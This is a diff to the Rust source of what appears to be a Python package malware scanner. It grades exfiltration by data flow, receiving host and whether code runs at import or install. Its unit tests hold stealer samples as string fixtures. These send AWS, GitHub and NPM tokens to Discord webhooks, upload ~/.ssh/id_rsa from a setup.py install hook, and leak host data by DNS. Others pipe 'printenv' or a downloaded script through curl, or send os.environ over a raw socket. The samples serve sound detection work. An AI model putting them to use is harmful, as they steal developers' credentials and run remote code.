@@ -232,13 +232,283 @@ fn analyze_at(
         out = lexical(rules, code.as_bytes(), role);
     }
     if python && depth < MAX_UNFOLD {
-        let analysis = super::python::analyse(&String::from_utf8_lossy(text));
+        let want = super::python::Want {
+            reach: depth == 0 && out.iter().any(|f| f.severity >= Severity::High),
+            script: depth == 0 && role == Role::Install,
+        };
+        let analysis = super::python::analyse(&String::from_utf8_lossy(text), want);
         if analysis.parsed() && analysis.flows.is_empty() {
             no_flow_no_download_exec(&mut out);
         }
+        if analysis.leaks_ran && analysis.skipped.is_none() {
+            let leaks = leak_findings(rules, path, text, role, &analysis);
+            // The flows decide: co-occurrence is kept only where the tree
+            // is partial and no flow was found in what parsed.
+            if !analysis.partial || !leaks.is_empty() {
+                out.retain(|f| f.rule != RuleId::Exfiltration);
+            }
+            out.extend(leaks);
+        }
+        if role == Role::Install && analysis.parsed() {
+            install_hook_by_calls(&mut out, &analysis.command_calls);
+        }
+        let reach = analysis.reach.clone();
         out.extend(v2_findings(rules, path, text, role, depth, &out, analysis));
+        if depth == 0
+            && let Some(r) = reach
+        {
+            cap_asked(&mut out, &r);
+        }
     }
     out
+}
+
+/// Severity is earned where code runs unasked: a finding in a function
+/// nothing at import (or install) calls runs only when a user asks for it,
+/// and is medium at most. Exfiltration flows are graded by the same fact
+/// where they are made.
+fn cap_asked(out: &mut [MemberFinding], reach: &super::python::Reach) {
+    for f in out.iter_mut() {
+        let Some(line) = f.line else { continue };
+        if f.severity <= Severity::Medium || f.rule == RuleId::Exfiltration || reach.unasked(line) {
+            continue;
+        }
+        f.severity = Severity::Medium;
+        f.evidence.push((
+            "runs".into(),
+            format!(
+                "only when called: in {}(), which nothing in this file runs on import or install",
+                reach.function_at(line).unwrap_or("a function")
+            ),
+        ));
+    }
+}
+
+/// setup.py replacing an install command is judged by what the command
+/// runs: the calls in its methods and in what they call. A command that
+/// starts no program, fetches nothing and executes no code (words in its
+/// strings do not count) is low.
+fn install_hook_by_calls(out: &mut [MemberFinding], command_calls: &[(u32, String)]) {
+    let act = super::python::first_act(command_calls);
+    for f in out.iter_mut().filter(|f| {
+        f.rule == RuleId::InstallHook
+            && f.message
+                .starts_with("setup.py replaces an install command")
+    }) {
+        match act {
+            Some((line, q)) => {
+                f.evidence
+                    .push(("command-runs".into(), format!("{q} at line {line}")));
+            }
+            None => {
+                f.severity = Severity::Low;
+                f.confidence = Confidence::Medium;
+                f.message = "setup.py replaces an install command; what the command runs starts no program, fetches nothing and executes no code".into();
+            }
+        }
+    }
+}
+
+/// Where a receiving host is, as far as the file says.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum HostClass {
+    /// This machine: not a way out.
+    Local,
+    /// A webhook, bot API, paste or file-drop site, tunnel, request
+    /// catcher, out-of-band testing domain, or a raw IP address.
+    Service,
+    /// A host of the package's own project (its name in the domain).
+    Own,
+    /// Another host, spelled in the file.
+    Named,
+    /// Not in the file: configuration or an argument.
+    Unknown,
+}
+
+/// The package's name, from the member path's first component
+/// (`openai-2.1.0/src/...` or `openai/...`), normalised.
+fn project_tokens(path: &str) -> Vec<String> {
+    let first = path.split('/').next().unwrap_or("");
+    let name = match first.rfind('-') {
+        Some(i) if first[i + 1..].starts_with(|c: char| c.is_ascii_digit()) => &first[..i],
+        _ => first,
+    };
+    let norm = |s: &str| {
+        s.chars()
+            .filter(char::is_ascii_alphanumeric)
+            .collect::<String>()
+            .to_ascii_lowercase()
+    };
+    let mut out = vec![norm(name)];
+    if let Some(head) = name.split(['-', '_', '.']).next()
+        && head.len() >= 4
+    {
+        out.push(norm(head));
+    }
+    out.retain(|t| t.len() >= 3);
+    out.dedup();
+    out
+}
+
+fn classify_host(rules: &Rules, host: Option<&str>, path: &str, text: &[u8]) -> HostClass {
+    let endpoint = rules.indicators.iter().find(|i| i.id == "exfil-endpoint");
+    let Some(h) = host else {
+        return if endpoint.is_some_and(|e| e.regex.is_match(text)) {
+            HostClass::Service
+        } else {
+            HostClass::Unknown
+        };
+    };
+    if super::python::is_local_host(h) {
+        return HostClass::Local;
+    }
+    if endpoint.is_some_and(|e| e.regex.is_match(h.as_bytes())) {
+        return HostClass::Service;
+    }
+    let domain = h
+        .split("://")
+        .nth(1)
+        .unwrap_or(h)
+        .split(['/', ':', '?'])
+        .next()
+        .unwrap_or("")
+        .to_ascii_lowercase()
+        .replace('-', "");
+    // A raw address: nobody's published service.
+    if domain.parse::<std::net::Ipv4Addr>().is_ok() {
+        return HostClass::Service;
+    }
+    if project_tokens(path)
+        .iter()
+        .any(|t| domain.split('.').any(|label| label.contains(t.as_str())))
+    {
+        return HostClass::Own;
+    }
+    HostClass::Named
+}
+
+/// Exfiltration from the flows: data of a source that reaches a sink,
+/// graded by what the data is, where it goes, and whether the code runs
+/// without being asked. One finding per file: the worst flow, with the
+/// others' lines.
+fn leak_findings(
+    rules: &Rules,
+    path: &str,
+    text: &[u8],
+    role: Role,
+    a: &super::python::Analysis,
+) -> Vec<MemberFinding> {
+    use super::python::SourceKind;
+    // Tests, docs and examples send what they like where they like.
+    if role == Role::Test {
+        return Vec::new();
+    }
+    let mut graded: Vec<(Severity, MemberFinding)> = Vec::new();
+    for leak in &a.leaks {
+        let host = classify_host(rules, leak.host.as_deref(), path, text);
+        if host == HostClass::Local {
+            continue;
+        }
+        let secrets = leak
+            .sources
+            .iter()
+            .filter(|s| s.kind == SourceKind::Secret)
+            .count();
+        let strong = secrets >= 3 || leak.sources.iter().any(|s| s.kind.strong());
+        let service = host == HostClass::Service;
+        let unasked = a.reach.as_ref().is_none_or(|r| r.unasked(leak.line));
+        let hot = matches!(role, Role::Startup | Role::Install | Role::Init);
+        let severity = if unasked {
+            match (hot, strong || service) {
+                (true, true) => Severity::Critical,
+                (true, false) | (false, true) => Severity::High,
+                (false, false) => Severity::Medium,
+            }
+        } else if strong && service {
+            Severity::High
+        } else if (strong && host != HostClass::Own) || service {
+            Severity::Medium
+        } else {
+            Severity::Low
+        };
+        let mut kinds: Vec<SourceKind> = leak.sources.iter().map(|s| s.kind).collect();
+        kinds.sort();
+        kinds.dedup();
+        let what = kinds
+            .iter()
+            .map(|k| k.describe())
+            .collect::<Vec<_>>()
+            .join(", ");
+        let to = match host {
+            HostClass::Service => "a receiving service",
+            HostClass::Own => "the project's own host",
+            HostClass::Named => "a host named in the file",
+            HostClass::Unknown => "a host from configuration or an argument",
+            HostClass::Local => "this machine",
+        };
+        let runs = match a.reach.as_ref().and_then(|r| r.function_at(leak.line)) {
+            Some(f) if unasked => {
+                format!("at import or install: {f}() is called from the top level")
+            }
+            Some(f) => format!(
+                "only when called: {f}(), which nothing in this file runs on import or install"
+            ),
+            None => "at import or install: module top level".into(),
+        };
+        let mut evidence: Vec<(String, String)> = leak
+            .sources
+            .iter()
+            .take(4)
+            .map(|s| {
+                (
+                    "source".to_string(),
+                    format!("{} `{}` at line {}", s.kind.describe(), s.what, s.line),
+                )
+            })
+            .collect();
+        evidence.push((
+            "sink".into(),
+            format!("{} ({}) at line {}", leak.sink, leak.sink_kind, leak.line),
+        ));
+        evidence.push((
+            "host".into(),
+            match &leak.host {
+                Some(h) => format!("{}: {to}", h.chars().take(120).collect::<String>()),
+                None => to.to_string(),
+            },
+        ));
+        evidence.push(("runs".into(), runs));
+        graded.push((
+            severity,
+            MemberFinding {
+                rule: RuleId::Exfiltration,
+                severity,
+                confidence: if strong || service {
+                    Confidence::High
+                } else {
+                    Confidence::Medium
+                },
+                line: Some(leak.line),
+                message: format!("sends {what} to {to} ({}) {}", leak.sink, role.describe()),
+                evidence,
+            },
+        ));
+    }
+    graded.sort_by(|x, y| y.0.cmp(&x.0).then(x.1.line.cmp(&y.1.line)));
+    let others: Vec<String> = graded
+        .iter()
+        .skip(1)
+        .filter_map(|(_, f)| f.line.map(|l| l.to_string()))
+        .collect();
+    let Some((_, mut worst)) = graded.into_iter().next() else {
+        return Vec::new();
+    };
+    if !others.is_empty() {
+        worst
+            .evidence
+            .push(("other-flows".into(), format!("lines {}", others.join(", "))));
+    }
+    vec![worst]
 }
 
 /// A file that parses, fetches with Python's own clients and starts a
@@ -946,7 +1216,97 @@ mod tests {
             rules_of("p/pkg/m.py", alias, &[]),
             vec![(RuleId::ObfuscatedExec, Severity::High)]
         );
-        let hook = "from setuptools.command.install import install\nclass H(install):\n    def run(self):\n        os.system('curl https://x.example/a | sh')\nsetup(cmdclass={'install': H})\n";
+        let hook = "import os\nfrom setuptools.command.install import install\nclass H(install):\n    def run(self):\n        os.system('curl https://x.example/a | sh')\nsetup(cmdclass={'install': H})\n";
         assert!(rules_of("p/setup.py", hook, &[]).contains(&(RuleId::InstallHook, Severity::High)));
+    }
+
+    fn exfil_of(path: &str, text: &str) -> Vec<Severity> {
+        rules_of(path, text, &[])
+            .into_iter()
+            .filter(|(r, _)| *r == RuleId::Exfiltration)
+            .map(|(_, s)| s)
+            .collect()
+    }
+
+    #[test]
+    fn stealers_are_judged_by_their_flows() {
+        // Secrets read one by one, gathered by a function, sent to a webhook at import.
+        let named = "import os, requests\ndef collect():\n    data = {}\n    for k in ['AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN', 'NPM_TOKEN']:\n        data[k] = os.getenv(k)\n    return data\ndef send(payload):\n    requests.post('https://discord.com/api/webhooks/1/x', json={'content': str(payload)})\nsend(collect())\n";
+        assert_eq!(
+            exfil_of("p/pkg/__init__.py", named),
+            vec![Severity::Critical]
+        );
+        // Credential files staged in a zip and uploaded by an install command.
+        let staged = "import os, zipfile, requests\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        z = zipfile.ZipFile('/tmp/k.zip', 'w')\n        z.write(os.path.expanduser('~/.ssh/id_rsa'))\n        z.close()\n        requests.post(HOST, files={'f': open('/tmp/k.zip', 'rb')})\nsetup(cmdclass={'install': I})\n";
+        assert_eq!(exfil_of("p/setup.py", staged), vec![Severity::Critical]);
+        // Host and user details in a DNS name, at install.
+        let probe = "import socket, getpass, os\ninfo = socket.gethostname() + '.' + getpass.getuser()\nsocket.gethostbyname(info.encode().hex() + '.abc.oast.fun')\n";
+        assert_eq!(exfil_of("p/setup.py", probe), vec![Severity::Critical]);
+        // The environment over a raw socket to an address.
+        let sock = "import os, socket\ns = socket.socket()\ns.connect(('198.51.100.7', 4444))\ns.send(str(os.environ).encode())\n";
+        assert_eq!(exfil_of("p/pkg/util.py", sock), vec![Severity::High]);
+        // A browser's saved logins copied aside, read and posted to a webhook.
+        let browser = "import os, shutil, requests\nWEBHOOK = 'https://discord.com/api/webhooks/2/y'\ndef grab():\n    path = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\n    shutil.copy(path, 'tmp.db')\n    data = open('tmp.db', 'rb').read()\n    requests.post(WEBHOOK, files={'a': data})\n";
+        // Only when called: still high, since the data and the host say what it is.
+        assert_eq!(exfil_of("p/pkg/util.py", browser), vec![Severity::High]);
+        // The environment piped to curl at install.
+        let shell = "import os\nos.system('printenv | curl -d @- https://x.example/c')\n";
+        assert_eq!(exfil_of("p/setup.py", shell), vec![Severity::Critical]);
+    }
+
+    #[test]
+    fn honest_clients_stay_low() {
+        // An SDK: its own key, to its own host, from methods the user calls.
+        let sdk = "import os, httpx\nclass Client:\n    def __init__(self, api_key=None, base_url=None):\n        self.api_key = api_key or os.environ.get('EXAMPLEAI_API_KEY')\n        self.base_url = base_url or 'https://api.exampleai.com/v1'\n    def request(self, path, body):\n        return httpx.post(self.base_url + path, json=body, headers={'Authorization': f'Bearer {self.api_key}'})\n";
+        assert_eq!(
+            exfil_of("exampleai-1.0/src/exampleai/_client.py", sdk),
+            vec![Severity::Low]
+        );
+        assert_eq!(exfil_of("exampleai/__init__.py", sdk), vec![Severity::Low]);
+        // A notifier: its token to a bot API, when called.
+        let bot = "from os import getenv\nimport requests\ndef notify(msg, token=None):\n    token = token or getenv('PROGRESS_BOT_TOKEN')\n    requests.post(f'https://api.telegram.org/bot{token}/sendMessage', data={'text': msg})\n";
+        assert_eq!(
+            exfil_of("p/pkg/contrib/bot.py", bot),
+            vec![Severity::Medium]
+        );
+        // The environment handed to a child process; a cache under HOME.
+        let tool = "import os, subprocess\nfrom urllib.request import urlretrieve\nCACHE = os.path.join(os.environ.get('HOME'), '.cache')\nurlretrieve(URL, CACHE)\nsubprocess.run(['git', 'pull'], env=dict(os.environ))\nrequests.get(URL)\n";
+        assert!(exfil_of("p/pkg/__init__.py", tool).is_empty());
+        // Co-occurrence without a flow is not exfiltration.
+        let apart = "import os, requests\nKEYS = dict(os.environ)\ndef fetch(url):\n    return requests.get(url)\n";
+        assert!(exfil_of("p/pkg/__init__.py", apart).is_empty());
+        // A local service.
+        let local = "import os, requests\nrequests.post('http://127.0.0.1:8080/x', json=dict(os.environ))\n";
+        assert!(exfil_of("p/pkg/__init__.py", local).is_empty());
+    }
+
+    #[test]
+    fn install_commands_are_judged_by_what_they_run() {
+        // Writes a startup file whose text mentions exec: no call acts.
+        let pth = "import os\nfrom setuptools.command.install_lib import install_lib\nclass WithPth(install_lib):\n    def run(self):\n        with open(os.path.join(self.install_dir, 'x.pth'), 'w') as fh:\n            fh.write(f'import os;exec({CODE!r})')\nsetup(cmdclass={'install_lib': WithPth})\n";
+        let got = rules_of("p/setup.py", pth, &[]);
+        assert!(got.iter().all(|(_, s)| *s <= Severity::Low), "{got:?}");
+        // An eval outside the command (metadata markers) is not the command's.
+        let markers = "from setuptools.command.egg_info import egg_info\nclass E(egg_info):\n    def run(self):\n        egg_info.run(self)\ndef marker(v):\n    return eval(v, {}, {})\nmarker(M)\nsetup(cmdclass={'egg_info': E})\n";
+        let got = rules_of("p/setup.py", markers, &[]);
+        assert!(
+            got.iter()
+                .all(|(r, s)| *r != RuleId::InstallHook || *s <= Severity::Low),
+            "{got:?}"
+        );
+    }
+
+    #[test]
+    fn what_runs_only_when_called_is_medium_at_most() {
+        let ps = "import base64, subprocess\ndef get_token(script):\n    cmd = base64.b64encode(script.encode('utf-16-le')).decode()\n    return subprocess.check_output(['pwsh', '-NoProfile', '-EncodedCommand', cmd])\n";
+        let got = rules_of("p/pkg/creds.py", ps, &[]);
+        assert!(got.iter().all(|(_, s)| *s <= Severity::Medium), "{got:?}");
+        let at_import =
+            "import subprocess\nsubprocess.run('powershell -enc SQBFAFgA', shell=True)\n";
+        assert!(
+            rules_of("p/pkg/creds.py", at_import, &[])
+                .iter()
+                .any(|(_, s)| *s >= Severity::High)
+        );
     }
 }
